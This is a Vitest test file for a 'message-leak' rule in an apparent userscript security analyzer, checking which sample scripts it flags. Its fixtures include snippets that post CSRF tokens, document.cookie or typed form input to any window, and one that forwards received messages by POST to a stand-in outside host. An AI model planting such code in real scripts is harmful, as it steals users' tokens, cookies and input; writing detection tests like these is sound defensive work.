import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { findIn, userscript } from "../testing/find-in.ts";
import { messageLeak } from "./message-leak.ts";

describe("message-leak", () => {
	test.each([
		[
			"a token for any window",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`parent.postMessage({t:document.querySelector("meta[name=csrf-token]").content},"*")`,
			),
		],
		[
			"what is typed, for any window",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("change",e=>parent.postMessage(e.target.value,"*"))`,
			),
		],
		[
			"messages of others, passed on",
			["high 5"],
			userscript(
				["match https://shop.example/*"],
				`addEventListener("message",e=>fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(e.data)}))`,
			),
		],
		[
			"what a named player says, told to it again: told",
			["low 5"],
			userscript(
				["match https://shop.example/*"],
				`addEventListener("message",e=>document.querySelector("iframe").contentWindow.postMessage(e.data.time,"https://player.stranger.test"))`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(messageLeak, code)).toEqual(expected);
	});

	test.each([
		["a message without secrets", userscript(["match https://shop.example/*"], `parent.postMessage({ready:true},"*")`)],
		[
			"what is stored, for the page itself",
			userscript(["match https://shop.example/*"], `window.postMessage(localStorage.getItem("view"),"*")`),
		],
		[
			"a token for the site itself",
			userscript(
				["match https://shop.example/*"],
				`parent.postMessage(document.querySelector("meta[name=csrf-token]").content,location.origin)`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(messageLeak, code)).toEqual([]);
	});

	test.each([
		["a window", `parent.postMessage(document.cookie,"*")`, "to another window or worker without naming the receiver."],
		[
			"a worker of the page",
			`page.worker.postMessage(document.cookie)`,
			"to a worker, a port or a window that cannot be told from the code.",
		],
	])("names the receiver as far as it is known: %s", (_title, body, receiver) => {
		const { vulnerabilities } = analyzeScript({ code: userscript(["match https://shop.example/*"], body) });
		expect(vulnerabilities.find(({ type }) => type === "message-leak")?.description).toBe(
			`Posts document.cookie ${receiver}`,
		);
	});
});
